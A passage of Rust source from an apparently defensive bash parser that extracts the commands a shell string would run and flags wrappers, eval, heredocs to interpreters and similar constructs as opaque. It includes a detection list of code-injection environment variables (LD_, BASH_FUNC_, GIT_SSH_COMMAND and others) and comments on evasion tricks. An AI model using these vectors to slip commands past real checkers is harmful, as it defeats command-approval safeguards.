                    closed = true;
                    break;
                }
                body.push_str(&line);
                body.push('\n');
            }
            self.opaque |= !closed;
            if doc.expand {
                self.scan_heredoc(&body);
            }
        }
    }

    /// One line of a heredoc body. With an unquoted delimiter bash joins continued lines
    /// before comparing with the delimiter, so `EO\` + `F` ends a heredoc delimited by EOF.
    fn heredoc_line(&mut self, expand: bool) -> String {
        let mut line = String::new();
        while let Some(c) = self.cur() {
            self.pos += 1;
            match c {
                '\n' => break,
                '\\' if expand => match self.cur() {
                    Some('\n') => self.pos += 1,
                    Some(n) => {
                        line.push('\\');
                        line.push(n);
                        self.pos += 1;
                    }
                    None => line.push('\\'),
                },
                _ => line.push(c),
            }
        }
        line
    }

    /// An unquoted heredoc body is expanded like a double-quoted string: list what it runs.
    fn scan_heredoc(&mut self, body: &str) {
        if !body.contains(['$', '`']) {
            return;
        }
        if self.depth + 1 > MAX_DEPTH {
            self.opaque = true;
            return;
        }
        let mut inner = Parser::new(body, self.depth + 1);
        let mut scratch = Word::default();
        if inner.dq_chars(&mut scratch, false).is_err() {
            self.opaque = true;
        }
        self.opaque |= inner.opaque;
        self.push_all(inner.cmds);
    }
}

// === impl Parser: grammar ===

impl Parser {
    /// And-or lists separated by `;`, `&` or newlines, up to a token that ends the list
    /// (the caller checks which one).
    fn parse_list(&mut self) -> Res<()> {
        loop {
            self.skip_newlines()?;
            if self.at_list_end()? {
                return Ok(());
            }
            self.parse_and_or()?;
            match self.peek_class()? {
                Class::Op(Op::Semi | Op::Amp) | Class::Newline => {
                    self.next()?;
                }
                _ => return Ok(()),
            }
        }
    }

    fn at_list_end(&mut self) -> Res<bool> {
        Ok(match self.peek_class()? {
            Class::Eof | Class::Op(Op::RParen | Op::DSemi | Op::SemiAmp | Op::DSemiAmp) => true,
            Class::Word(Some(r)) => {
                matches!(
                    r,
                    "}" | "then" | "elif" | "else" | "fi" | "do" | "done" | "esac"
                )
            }
            _ => false,
        })
    }

    fn parse_and_or(&mut self) -> Res<()> {
        self.parse_pipeline()?;
        while matches!(self.peek_class()?, Class::Op(Op::AndIf | Op::OrIf)) {
            self.next()?;
            self.skip_newlines()?;
            self.parse_pipeline()?;
        }
        Ok(())
    }

    fn parse_pipeline(&mut self) -> Res<()> {
        loop {
            match self.peek_class()? {
                Class::Word(Some("!")) => {
                    self.next()?;
                }
                Class::Word(Some("time")) => {
                    self.next()?;
                    // `time [-p] [--]`: bash takes both, so `time -- rm` runs rm.
                    for option in ["-p", "--"] {
                        let here = matches!(&self.peek_tok()?.kind,
                            Kind::Word(w) if !w.quoted && w.text == option);
                        if here {
                            self.next()?;
                        }
                    }
                    // `time` alone times nothing.
                    let end = matches!(
                        self.peek_class()?,
                        Class::Op(Op::Semi | Op::Amp) | Class::Newline
                    );
                    if end || self.at_list_end()? {
                        return Ok(());
                    }
                }
                _ => break,
            }
        }
        self.parse_command()?;
        while matches!(self.peek_class()?, Class::Op(Op::Pipe | Op::PipeAmp)) {
            self.next()?;
            self.skip_newlines()?;
            self.parse_command()?;
        }
        Ok(())
    }

    fn parse_command(&mut self) -> Res<()> {
        let slot = self.peek_tok()?.at;
        let class = self.peek_class()?;
        match class {
            Class::Op(Op::LParen) => {}
            Class::Word(Some(
                "{" | "if" | "while" | "until" | "for" | "select" | "case" | "function" | "[["
                | "coproc",
            )) => {}
            Class::Word(None | Some("in" | "]]")) | Class::Redir(_) => return self.parse_simple(),
            _ => return Err(Stop),
        }
        self.enter()?;
        self.parse_compound(class)?;
        self.leave();
        self.compound_redirects(slot)
    }

    fn parse_compound(&mut self, class: Class) -> Res<()> {
        match class {
            Class::Word(Some("{")) => {
                self.next()?;
                self.parse_list()?;
                self.expect_word("}")
            }
            Class::Word(Some("if")) => self.parse_if(),
            Class::Word(Some(kw @ ("while" | "until"))) => {
                self.expect_word(kw)?;
                self.parse_list()?;
                self.expect_word("do")?;
                self.parse_list()?;
                self.expect_word("done")
            }
            Class::Word(Some("for" | "select")) => self.parse_for(),
            Class::Word(Some("case")) => self.parse_case(),
            Class::Word(Some("function")) => self.parse_function(),
            Class::Word(Some("[[")) => self.parse_cond(),
            Class::Word(Some("coproc")) => self.parse_coproc(),
            _ => {
                self.expect_op(Op::LParen)?;
                if self.cur() == Some('(') {
                    return self.arith_command();
                }
                self.parse_list()?;
                self.expect_op(Op::RParen)
            }
        }
    }

    /// `(( … ))`, the cursor on the second parenthesis; `( (…) … )` when it does not close
    /// with `))`.
    fn arith_command(&mut self) -> Res<()> {
        self.opaque = true;
        self.pos += 1;
        // Back to the second parenthesis: `( (…) … )`.
        self.arith_or(1, |p| {
            p.parse_list()?;
            p.expect_op(Op::RParen)
        })
    }

    fn parse_if(&mut self) -> Res<()> {
        self.expect_word("if")?;
        self.parse_list()?;
        self.expect_word("then")?;
        self.parse_list()?;
        loop {
            let w = self.next_word()?;
            match reserved(&w) {
                Some("elif") => {
                    self.parse_list()?;
                    self.expect_word("then")?;
                    self.parse_list()?;
                }
                Some("else") => {
                    self.parse_list()?;
                    return self.expect_word("fi");
                }
                Some("fi") => return Ok(()),
                _ => return Err(Stop),
            }
        }
    }

    /// `for NAME [in WORDS]; do …; done` (the words are data), or `for ((…))`.
    fn parse_for(&mut self) -> Res<()> {
        self.next()?;
        self.skip_blanks();
        if self.cur() == Some('(') && self.at(1) == Some('(') {
            self.opaque = true;
            self.pos += 2;
            if !self.scan_arith()? {
                return Err(Stop);
            }
        } else {
            self.next_word()?;
            self.skip_newlines()?;
            if self.peek_class()? == Class::Word(Some("in")) {
                self.next()?;
                while let Class::Word(_) = self.peek_class()? {
                    self.next()?;
                }
            }
        }
        if matches!(self.peek_class()?, Class::Op(Op::Semi) | Class::Newline) {
            self.next()?;
        }
        self.skip_newlines()?;
        let close = match reserved(&self.next_word()?) {
            Some("do") => "done",
            Some("{") => "}",
            _ => return Err(Stop),
        };
        self.parse_list()?;
        self.expect_word(close)
    }

    /// `case WORD in PATTERN) LIST ;; … esac`: the word and the patterns are data.
    fn parse_case(&mut self) -> Res<()> {
        self.next()?;
        self.next_word()?;
        self.skip_newlines()?;
        self.expect_word("in")?;
        loop {
            self.skip_newlines()?;
            match self.peek_class()? {
                Class::Word(Some("esac")) => {
                    self.next()?;
                    return Ok(());
                }
                Class::Op(Op::LParen) => {
                    self.next()?;
                }
                _ => {}
            }
            loop {
                self.next_word()?;
                match self.next()?.kind {
                    Kind::Op(Op::Pipe) => {}
                    Kind::Op(Op::RParen) => break,
                    _ => return Err(Stop),
                }
            }
            self.parse_list()?;
            match self.peek_class()? {
                Class::Op(Op::DSemi | Op::SemiAmp | Op::DSemiAmp) => {
                    self.next()?;
                }
                Class::Word(Some("esac")) => {}
                _ => return Err(Stop),
            }
        }
    }

    /// `function NAME [()] BODY`.
    fn parse_function(&mut self) -> Res<()> {
        self.next()?;
        self.next_word()?;
        if self.peek_class()? == Class::Op(Op::LParen) {
            self.next()?;
            self.expect_op(Op::RParen)?;
        }
        self.function_body()
    }

    /// A function's body is a compound command; its commands are listed where defined.
    fn function_body(&mut self) -> Res<()> {
        self.skip_newlines()?;
        match self.peek_class()? {
            Class::Op(Op::LParen)
            | Class::Word(Some(
                "{" | "if" | "while" | "until" | "for" | "select" | "case" | "[[",
            )) => self.parse_command(),
            _ => Err(Stop),
        }
    }

    /// `[[ … ]]`: words are data, but arithmetic comparisons and `-v` evaluate subscripts.
    fn parse_cond(&mut self) -> Res<()> {
        self.next()?;
        loop {
            match self.next()?.kind {
                Kind::Eof | Kind::Op(Op::Semi | Op::Amp | Op::Pipe | Op::PipeAmp) => {
                    return Err(Stop);
                }
                Kind::Op(Op::DSemi | Op::SemiAmp | Op::DSemiAmp) => return Err(Stop),
                Kind::Word(w) if reserved(&w) == Some("]]") => return Ok(()),
                Kind::Word(w) => {
                    let arith = ["-eq", "-ne", "-lt", "-le", "-gt", "-ge", "-v", "-R"];
                    self.opaque |= arith.contains(&w.text.as_str());
                }
                _ => {}
            }
        }
    }

    /// `coproc [NAME] COMPOUND` or `coproc SIMPLE-COMMAND`.
    fn parse_coproc(&mut self) -> Res<()> {
        self.next()?;
        match self.peek_class()? {
            Class::Word(None) => {
                let mut k = self.pos;
                while matches!(self.src.get(k), Some(' ' | '\t')) {
                    k += 1;
                }
                if matches!(self.src.get(k), Some('{' | '(')) {
                    self.next()?;
                    return self.parse_command();
                }
                self.parse_simple()
            }
            _ => self.parse_command(),
        }
    }

    fn compound_redirects(&mut self, slot: usize) -> Res<()> {
        let mut doc = false;
        while let Class::Redir(_) = self.peek_class()? {
            doc |= self.parse_redirect()?;
        }
        if doc
            && self
                .cmds
                .get(slot..)
                .is_some_and(|c| c.iter().any(|c| runs_interpreter(c)))
        {
            self.opaque = true;
        }
        Ok(())
    }

    /// A redirection and its target (dropped); true when it feeds a document to stdin.
    fn parse_redirect(&mut self) -> Res<bool> {
        let Kind::Redir(redir) = self.next()?.kind else {
            return Err(Stop);
        };
        let target = self.next_word()?;
        match redir {
            Redir::Heredoc { strip } => {
                let expand = !target.quoted;
                self.heredocs.push(Heredoc {
                    delim: target.text,
                    strip,
                    expand,
                });
                Ok(true)
            }
            Redir::Herestring => Ok(true),
            Redir::File => Ok(false),
        }
    }

    fn parse_simple(&mut self) -> Res<()> {
        let slot = self.peek_tok()?.at;
        let mut words = Vec::new();
        let mut doc = false;
        let result = self.simple_words(&mut words, &mut doc);
        if matches!(result, Ok(true)) {
            return Ok(());
        }
        // After a syntax error the words read so far are still listed (already opaque).
        let mut out = Vec::new();
        self.command(&words, 0, &Inject::default(), &mut out);
        if doc && out.iter().any(|c| runs_interpreter(c)) {
            self.opaque = true;
        }
        self.insert(slot, out);
        result.map(|_| ())
    }

    /// Read a simple command's words, dropping assignments and redirections; true when it
    /// turned out to be a function definition (whose body is already parsed).
    fn simple_words(&mut self, words: &mut Vec<Word>, doc: &mut bool) -> Res<bool> {
        let mut prefix = false;
        loop {
            match self.peek_class()? {
                Class::Word(_) => {
                    let w = self.next_word()?;
                    if words.is_empty() && self.assignment(&w) {
                        prefix = true;
                    } else {
                        words.push(w);
                    }
                }
                Class::Redir(_) => {
                    prefix = true;
                    *doc |= self.parse_redirect()?;
                }
                Class::Op(Op::LParen) if words.len() == 1 && !prefix => {
                    self.next()?;
                    self.expect_op(Op::RParen)?;
                    self.function_body()?;
                    return Ok(true);
                }
                _ => return Ok(false),
            }
        }
    }

    /// Whether `w` is an assignment (`NAME=v`, `NAME+=v`, `NAME[i]=v`); marks opaque the
    /// ones that change what runs, and subscripts, which bash evaluates as arithmetic.
    fn assignment(&mut self, w: &Word) -> bool {
        let raw: String = self
            .slice(w.start, w.end)
            .iter()
            .collect::<String>()
            .replace("\\\n", "");
        let Some(eq) = raw.find('=') else {
            return false;
        };
        let lhs = raw.get(..eq).unwrap_or_default();
        let lhs = lhs.strip_suffix('+').unwrap_or(lhs);
        let (name, sub) = match lhs.split_once('[') {
            Some((name, rest)) => match rest.strip_suffix(']') {
                Some(sub) => (name, Some(sub)),
                None => return false,
            },
            None => (lhs, None),
        };
        if !is_name(name) {
            return false;
        }
        let digits = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit());
        self.opaque |= sensitive(name) || sub.is_some_and(|s| !digits(s));
        true
    }
}

// === impl Parser: what a simple command runs ===

impl Parser {
    /// List `words` as a command and, for wrappers, the command they run.
    fn command(&mut self, words: &[Word], nest: usize, inj: &Inject, out: &mut Vec<Vec<String>>) {
        let Some(name) = words.first() else {
            // Nothing named: under xargs the command would come from the input.
            self.opaque |= inj.append;
            return;
        };
        out.push(words.iter().map(|w| w.text.clone()).collect());
        if !name.literal() || inj.touches(&name.text) || self.depth + nest >= MAX_DEPTH {
            self.opaque = true;
            return;
        }
        let base = basename(&name.text);
        let args = &words[1..];
        if self.builtin(base, args, nest, out) {
            return;
        }
        if is_shell(base) {
            return self.shell(base, args, nest, inj, out);
        }
        match base {
            "find" => self.find(args, nest, out),
            "parallel" => self.parallel(args, nest, out),
            "busybox" if !args.first().is_some_and(|a| a.text.starts_with('-')) => {
                self.command(args, nest + 1, inj, out);
            }
            "builtin" => self.command(args, nest + 1, inj, out),
            _ => {
                if let Some(spec) = spec(base) {
                    self.wrapper(base, spec, args, nest, inj, out);
                }
            }
        }
    }

    /// Builtins that run strings, redefine names or evaluate arithmetic; true if `base` is
    /// one of them.
    fn builtin(
        &mut self,
        base: &str,
        args: &[Word],
        nest: usize,
        out: &mut Vec<Vec<String>>,
    ) -> bool {
        let unsafe_name = |w: &Word| w.expand || w.text.contains('[');
        match base {
            "eval" => {
                self.opaque = true;
                if args.iter().all(Word::literal) {
                    let text = join(args);
                    out.extend(self.nested(&text, nest));
                }
            }
            "alias" => {
                self.opaque = true;
                for a in args.iter().filter(|a| a.literal()) {
                    if let Some((_, value)) = a.text.split_once('=') {
                        out.extend(self.nested(value, nest));
                    }
                }
            }
            "trap" => {
                self.opaque = true;
                let action = args.iter().find(|a| !a.text.starts_with('-'));
                if let Some(a) = action.filter(|a| a.literal()) {
                    out.extend(self.nested(&a.text, nest));
                }
            }
            "source" | "." | "enable" | "bind" | "fc" | "compgen" | "complete" | "let" => {
                self.opaque = true;
            }
            "hash" => self.opaque |= args.iter().any(|a| cluster_has(a, 'p')),
            "mapfile" | "readarray" => {
                self.opaque |= args.iter().any(|a| cluster_has(a, 'C') || unsafe_name(a));
            }
            "read" | "unset" | "getopts" | "wait" => self.opaque |= args.iter().any(unsafe_name),
            "declare" | "typeset" | "local" | "readonly" | "export" => self.declare(args),
            "printf" => self.opaque |= printf_target(args).is_some_and(unsafe_name),
            "test" | "[" => self.opaque |= args.iter().any(|a| a.text == "-v" || a.text == "-R"),
            _ => return false,
        }
        true
    }

    /// `declare` and relatives: `-i` makes later assignments arithmetic, `-n` makes a name
    /// reference (to a subscript), and a quoted `a[…]=` or `a=(…)` is evaluated at run time.
    fn declare(&mut self, args: &[Word]) {
        for a in args {
            let cluster = a.text.len() > 1 && a.text.starts_with(['-', '+']);
            let name = a
                .text
                .split_once('=')
                .map(|(n, _)| n.strip_suffix('+').unwrap_or(n));
            self.opaque |= a.expand
                || a.text.contains(['[', '('])
                || (cluster && a.text.contains(['i', 'n']))
                || name.is_some_and(sensitive);
        }
    }

    /// `bash -c SCRIPT`: parse a literal script; a script from anywhere else is opaque.
    fn shell(
        &mut self,
        base: &str,
        args: &[Word],
        nest: usize,
        inj: &Inject,
        out: &mut Vec<Vec<String>>,
    ) {
        let mut code = false;
        let mut i = 0;
        while let Some(w) = args.get(i) {
            if !w.literal() {
                // It could be `-c`, or the script.
                self.opaque = true;
                return;
            }
            let t = w.text.as_str();
            if t == "--" || t == "-" {
                i += 1;
                break;
            }
            if t.starts_with("--") {
                i += if matches!(t, "--rcfile" | "--init-file") {
                    2
                } else {
                    1
                };
                continue;
            }
            if t.len() > 1 && t.starts_with(['-', '+']) {
                code |= t.contains('c');
                i += if t.ends_with(['o', 'O']) { 2 } else { 1 };
                continue;
            }
            break;
        }
        let operand = args.get(i);
        if code {
            match operand {
                Some(w) if bash_like(base) && w.literal() && !inj.touches(&w.text) => {
                    out.extend(self.nested(&w.text, nest));
                }
                // Missing (from xargs input), not literal, or another language (fish, csh).
                _ => self.opaque = true,
            }
        } else if operand.map_or(inj.append, |w| inj.touches(&w.text) || !w.literal()) {
            // The script file would come from the input.
            self.opaque = true;
        }
    }

    /// `find … -exec CMD … ;` (also `-execdir`, `-ok`, `-okdir`, and `{} +`).
    fn find(&mut self, args: &[Word], nest: usize, out: &mut Vec<Vec<String>>) {
        // An expansion could become `-exec` or `;`; one with a literal `/` or `.` cannot.
        if args
            .iter()
            .any(|w| (w.split && w.expand) || ((w.expand || w.glob) && !w.sep))
        {
            self.opaque = true;
            return;
        }
        let mut i = 0;
        while let Some(w) = args.get(i) {
            i += 1;
            if !matches!(w.text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                continue;
            }
            let start = i;
            let end = (start..args.len()).find(|&j| {
                let t = args[j].text.as_str();
                t == ";" || (t == "+" && j > start && args[j - 1].text == "{}")
            });
            let Some(end) = end else {
                self.opaque = true;
                return;
            };
            let append = args[end].text == "+";
            let inj = Inject {
                token: Some("{}".into()),
                append,
            };
            self.command(&args[start..end], nest + 1, &inj, out);
            i = end + 1;
        }
    }

    /// `parallel CMD ::: ARGS`: the command words are joined and run by a shell.
    fn parallel(&mut self, args: &[Word], nest: usize, out: &mut Vec<Vec<String>>) {
        let end = args
            .iter()
            .position(|w| matches!(w.text.as_str(), ":::" | "::::" | ":::+" | "::::+"))
            .unwrap_or(args.len());
        let cmd = &args[..end];
        // Its options are not modelled; with no command it reads commands from its input.
        if cmd.is_empty() || cmd[0].text.starts_with('-') {
            self.opaque = true;
            return;
        }
        self.joined(cmd, nest, out);
    }

    /// Words that a program joins with spaces and runs with `sh -c` (`watch`, `parallel`).
    fn joined(&mut self, words: &[Word], nest: usize, out: &mut Vec<Vec<String>>) {
        if words.iter().any(|w| !w.literal()) {
            self.opaque = true;
            return;
        }
        out.extend(self.nested(&join(words), nest));
    }

    /// A script given as an option value (`su -c`, `script -c`, `flock FILE -c`).
    fn script(
        &mut self,
        word: &Word,
        text: &str,
        nest: usize,
        inj: &Inject,
        out: &mut Vec<Vec<String>>,
    ) {
        if !word.literal() || inj.touches(text) {
            self.opaque = true;
            return;
        }
        out.extend(self.nested(text, nest));
    }

    fn wrapper(
        &mut self,
        base: &str,
        spec: &Spec,
        args: &[Word],
        nest: usize,
        inj: &Inject,
        out: &mut Vec<Vec<String>>,
    ) {
        let Some(opts) = self.options(spec, args) else {
            self.opaque = true;
            return;
        };
        if opts.has(spec.opaque) {
            self.opaque = true;
            return;
        }
        if let Some((text, idx)) = opts.value_of(spec.script) {
            if let Some(word) = args.get(idx) {
                self.script(word, &text, nest, inj, out);
            }
            return;
        }
        if opts.has(spec.no_cmd) {
            return;
        }
        if spec.permute {
            // `su USER ARGS…` passes ARGS to the shell.
            self.opaque |= opts.operands > 1;
            return;
        }
        let rest = args.get(opts.rest..).unwrap_or_default();
        // `sudo -s CMD` runs CMD through a shell with every character escaped except `$`.
        let shell_mode = base == "sudo" && opts.has("-s -i --shell --login");
        if shell_mode && rest.iter().any(|w| w.text.contains('$')) {
            self.opaque = true;
            return;
        }
        match base {
            "watch" if !opts.has("-x --exec") => self.joined(rest, nest, out),
            // With no command xargs runs echo.
            "xargs" if rest.is_empty() => {}
            "xargs" => self.command(rest, nest + 1, &xargs_inject(&opts), out),
            _ => self.command(rest, nest + 1, inj, out),
        }
    }

    /// Read a wrapper's options; None when one is unknown or an option word is not literal,
    /// so where its command starts cannot be known.
    fn options(&mut self, spec: &Spec, args: &[Word]) -> Option<Opts> {
        let mut o = Opts::default();
        let mut i = 0;
        while let Some(w) = args.get(i) {
            let t = w.text.as_str();
            if t == "--" {
                i += 1;
                break;
            }
            let is_option = (t.len() > 1 && t.starts_with('-')) || (t == "-" && spec.dash);
            if !w.literal() {
                return None;
            }
            if is_option {
                i = option(spec, args, i, &mut o)?;
            } else if spec.permute {
                o.operands += 1;
                i += 1;
            } else {
                break;
            }
        }
        if spec.permute {
            o.operands += args.len().saturating_sub(i);
            o.rest = args.len();
            return Some(o);
        }
        self.after_options(spec, args, i, o)
    }

    /// Operands, `FILE -c SCRIPT` (flock) and `NAME=VALUE` words between options and command.
    fn after_options(
        &mut self,
        spec: &Spec,
        args: &[Word],
        mut i: usize,
        mut o: Opts,
    ) -> Option<Opts> {
        for _ in 0..spec.operands {
            let Some(w) = args.get(i) else {
                o.rest = args.len();
                return Some(o);
            };
            if !w.literal() {
                return None;
            }
            i += 1;
        }
        if let Some(w) = args.get(i).filter(|w| listed(spec.script, &w.text)) {
            let value = args.get(i + 1)?;
            o.seen
                .push((w.text.clone(), Some((value.text.clone(), i + 1))));
            o.rest = args.len();
            return Some(o);
        }
        // env and sudo take any word with `=` as an assignment, even `BASH_FUNC_ls%%=…`.
        while let Some(w) = args.get(i).filter(|_| spec.assigns) {
            let Some((name, _)) = w.text.split_once('=').filter(|(n, _)| !n.is_empty()) else {
                break;
            };
            if !w.stable() {
                return None;
            }
            self.opaque |= sensitive(name);
            i += 1;
        }
        o.rest = i;
        Some(o)
    }
}

/// One option word at `i` (a cluster like `-abc`, or `--long[=v]`); the index after it.
fn option(spec: &Spec, args: &[Word], i: usize, o: &mut Opts) -> Option<usize> {
    let t = args.get(i)?.text.as_str();
    let numeric = t.len() > 1
        && t[1..]
            .trim_start_matches(['-', '+'])
            .chars()
            .all(|c| c.is_ascii_digit());
    if t == "-" || (spec.numeric && numeric) {
        o.seen.push((t.to_string(), None));
        return Some(i + 1);
    }
    if let Some(long) = t.strip_prefix("--") {
        return long_option(spec, args, i, long, o);
    }
    let letters: Vec<char> = t.chars().skip(1).collect();
    for (j, &c) in letters.iter().enumerate() {
        let rest: String = letters.get(j + 1..).unwrap_or_default().iter().collect();
        if spec.flags.contains(c) {
            o.seen.push((format!("-{c}"), None));
            continue;
        }
        if spec.attached.contains(c) {
            o.seen
                .push((format!("-{c}"), (!rest.is_empty()).then_some((rest, i))));
            return Some(i + 1);
        }
        if !spec.values.contains(c) {
            return None;
        }
        if !rest.is_empty() {
            o.seen.push((format!("-{c}"), Some((rest, i))));
            return Some(i + 1);
        }
        let w = args.get(i + 1).filter(|w| w.stable())?;
        o.seen
            .push((format!("-{c}"), Some((w.text.clone(), i + 1))));
        return Some(i + 2);
    }
    Some(i + 1)
}

/// `--name[=value]` at `i`; the index after it.
fn long_option(spec: &Spec, args: &[Word], i: usize, long: &str, o: &mut Opts) -> Option<usize> {
    let (name, value) = match long.split_once('=') {
        Some((n, v)) => (n, Some(v)),
        None => (long, None),
    };
    let (full, takes) = resolve_long(spec, name)?;
    let key = format!("--{full}");
    if let Some(v) = value {
        o.seen.push((key, Some((v.to_string(), i))));
        return Some(i + 1);
    }
    if !takes {
        o.seen.push((key, None));
        return Some(i + 1);
    }
    let w = args.get(i + 1).filter(|w| w.stable())?;
    o.seen.push((key, Some((w.text.clone(), i + 1))));
    Some(i + 2)
}

/// The full name of a long option (getopt accepts unambiguous prefixes) and whether it takes
/// a value.
fn resolve_long(spec: &Spec, name: &str) -> Option<(&'static str, bool)> {
    let flags = spec.long_flags.split_whitespace().map(|n| (n, false));
    let all = flags.chain(spec.long_values.split_whitespace().map(|n| (n, true)));
    let mut found = None;
    for (full, takes) in all {
        if full == name {
            return Some((full, takes));
        }
        if full.starts_with(name) && !name.is_empty() {
            if found.is_some() {
                return None;
            }
            found = Some((full, takes));
        }
    }
    found
}

/// The replace string and append mode of an `xargs` invocation.
fn xargs_inject(opts: &Opts) -> Inject {
    let token = if let Some((v, _)) = opts.value_of("-I -i --replace") {
        Some(v)
    } else if opts.has("-i --replace") {
        Some("{}".to_string())
    } else {
        None
    };
    let append = token.is_none();
    Inject { token, append }
}

/// The variable named by `printf -v NAME`.
fn printf_target(args: &[Word]) -> Option<&Word> {
    for (i, a) in args.iter().enumerate() {
        match a.text.as_str() {
            "--" => return None,
            "-v" => return args.get(i + 1),
            t if t.starts_with("-v") => return Some(a),
            t if !t.starts_with('-') => return None,
            _ => {}
        }
    }
    None
}

/// An option cluster (`-xp`, `+p`) that contains `letter`.
fn cluster_has(w: &Word, letter: char) -> bool {
    let t = &w.text;
    t.len() > 1 && t.starts_with(['-', '+']) && !t.starts_with("--") && t.contains(letter)
}

/// Whether `name` is one of the space-separated `names`.
fn listed(names: &str, name: &str) -> bool {
    names.split_whitespace().any(|n| n == name)
}

fn join(words: &[Word]) -> String {
    words
        .iter()
        .map(|w| w.text.as_str())
        .collect::<Vec<_>>()
        .join(" ")
}

/// The reserved word `w` is, if it is one: unquoted and without expansions.
fn reserved(w: &Word) -> Option<&'static str> {
    if w.quoted || w.expand || w.text.len() > 8 {
        return None;
    }
    RESERVED.iter().find(|r| **r == w.text).copied()
}

/// A redirection's file-descriptor prefix: `2>`, `{fd}>`.
fn is_fd(raw: &[char]) -> bool {
    let digits = !raw.is_empty() && raw.iter().all(char::is_ascii_digit);
    let named = raw.len() > 2
        && raw.first() == Some(&'{')
        && raw.last() == Some(&'}')
        && is_name(&raw[1..raw.len() - 1].iter().collect::<String>());
    digits || named
}

fn is_name_char(c: char) -> bool {
    c == '_' || c.is_ascii_alphanumeric()
}

fn is_name(s: &str) -> bool {
    let mut chars = s.chars();
    chars
        .next()
        .is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
        && chars.all(is_name_char)
}

fn basename(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

/// Variables whose value changes which program runs or makes one run a string as code.
fn sensitive(name: &str) -> bool {
    const NAMES: &str = concat!(
        "PATH BASH_ENV ENV IFS PROMPT_COMMAND PS0 PS1 ",
        "PS2 PS4 SHELLOPTS BASHOPTS BASH_LOADABLES_PATH NODE_OPTIONS PYTHONSTARTUP ",
        "PYTHONPATH PYTHONHOME PERL5OPT PERL5LIB RUBYOPT RUBYLIB GIT_SSH_COMMAND ",
        "GIT_SSH GIT_EXEC_PATH GIT_EDITOR GIT_PAGER EDITOR VISUAL PAGER ",
        "SUDO_ASKPASS SSH_ASKPASS SUDO_EDITOR BASH_ALIASES BASH_CMDS FPATH ",
    );
    const PREFIXES: &[&str] = &["LD_", "DYLD_", "BASH_FUNC_", "GIT_CONFIG"];
    listed(NAMES, name) || PREFIXES.iter().any(|p| name.starts_with(p))
}

/// Shells whose `-c` script is parsed here as bash.
fn bash_like(base: &str) -> bool {
    matches!(
        base,
        "sh" | "bash"
            | "dash"
            | "zsh"
            | "ksh"
            | "mksh"
            | "ash"
            | "yash"
            | "posh"
            | "rbash"
            | "ksh93"
            | "oksh"
            | "lksh"
    )
}

fn is_shell(base: &str) -> bool {
    bash_like(base) || matches!(base, "fish" | "csh" | "tcsh")
}

/// A program that would run a heredoc or herestring fed to it as code.
fn runs_interpreter(argv: &[String]) -> bool {
    let Some(base) = argv.first().map(|n| basename(n)) else {
        return false;
    };
    const PREFIXES: &[&str] = &["python", "pypy", "perl", "ruby", "php", "lua"];
    const NAMES: &str =
        "node nodejs deno bun irb tclsh wish pwsh powershell Rscript osascript busybox";
    is_shell(base) || listed(NAMES, base) || PREFIXES.iter().any(|p| base.starts_with(p))
}

const NONE: Spec = Spec {
    flags: "",
    values: "",
    attached: "",
    long_flags: "",
    long_values: "",
    operands: 0,
    permute: false,
    assigns: false,
    dash: false,
    numeric: false,
    no_cmd: "",
    script: "",
    opaque: "",
};

const HELP: &str = "help version";

const SUDO: Spec = Spec {
    flags: "ABbEeHiKklNnPSsVv",
    values: "aCcDgpRrTtUu",
    attached: "h",
    long_flags: concat!(
        "askpass background bell edit help login list non-interactive preserve-env ",
        "preserve-groups remove-timestamp reset-timestamp set-home shell stdin validate ",
        "version",
    ),
    long_values: concat!(
        "auth-type chdir chroot close-from command-timeout group host login-class ",
        "other-user prompt role type user",
    ),
    assigns: true,
    no_cmd: "-e --edit -l --list -v --validate -K --remove-timestamp -V --version --help",
    ..NONE
};

const ENV: Spec = Spec {
    flags: "0iv",
    values: "uCS",
    long_flags: concat!(
        "ignore-environment null debug help version list-signal-handling ignore-signal ",
        "default-signal block-signal",
    ),
    long_values: "unset chdir split-string",
    assigns: true,
    dash: true,
    no_cmd: "--help --version",
    opaque: "-S --split-string",
    ..NONE
};

const SU: Spec = Spec {
    flags: "flmpPhV",
    values: "cgGsw",
    long_flags: "fast login preserve-environment pty help version",
    long_values: "command session-command group supp-group shell whitelist-environment",
    permute: true,
    dash: true,
    script: "-c --command --session-command",
    ..NONE
};

const XARGS: Spec = Spec {
    flags: "0prtxo",
    values: "aEdILnsP",
    attached: "eil",
    long_flags: concat!(
        "null no-run-if-empty interactive open-tty show-limits verbose exit eof replace ",
        "max-lines help version",
    ),
    long_values: "arg-file delimiter max-args max-procs max-chars process-slot-var",
    no_cmd: "--help --version",
    ..NONE
};

const DOAS: Spec = Spec {
    flags: "Lns",
    values: "aCu",
    no_cmd: "-L -C",
    ..NONE
};
const PKEXEC: Spec = Spec {
    long_flags: "disable-internal-agent keep-cwd help version",
    long_values: "user",
    no_cmd: "--help --version",
    ..NONE
};
const NICE: Spec = Spec {
    values: "n",
    long_flags: HELP,
    long_values: "adjustment",
    numeric: true,
    ..NONE
};
const NOHUP: Spec = Spec {
    long_flags: HELP,
    no_cmd: "--help --version",
    ..NONE
};
const IONICE: Spec = Spec {
    flags: "t",
    values: "cnpPu",
    long_flags: "ignore help version",
    long_values: "class classdata pid pgid uid",
    no_cmd: "-p -P -u --pid --pgid --uid",
    ..NONE
};
const TIMEOUT: Spec = Spec {
    flags: "fpv",
    values: "ks",
    long_flags: "foreground preserve-status verbose help version",
    long_values: "kill-after signal",
    operands: 1,
    ..NONE
};
const STDBUF: Spec = Spec {
    values: "ioe",
    long_flags: HELP,
    long_values: "input output error",
    ..NONE
};
const COMMAND: Spec = Spec {
    flags: "pvV",
    no_cmd: "-v -V",
    ..NONE
};
const EXEC: Spec = Spec {
    flags: "cl",
    values: "a",
    ..NONE
};
const TIME: Spec = Spec {
    flags: "apqvV",
    values: "fo",
    long_flags: "append portability quiet verbose help version",
    long_values: "format output",
    no_cmd: "-V --version --help",
    ..NONE
};
const CHROOT: Spec = Spec {
    long_flags: "skip-chdir help version",
    long_values: "userspec groups",
    operands: 1,
    ..NONE
};
const SETSID: Spec = Spec {
    flags: "cfw",
    long_flags: "ctty fork wait help version",
    ..NONE
};
const UNBUFFER: Spec = Spec { flags: "p", ..NONE };
const FLOCK: Spec = Spec {
    flags: "sexnuoFhV",
    values: "wE",
    long_flags: "shared exclusive unlock nonblock close no-fork verbose help version",
    long_values: "timeout conflict-exit-code",
    operands: 1,
    script: "-c --command",
    ..NONE
};
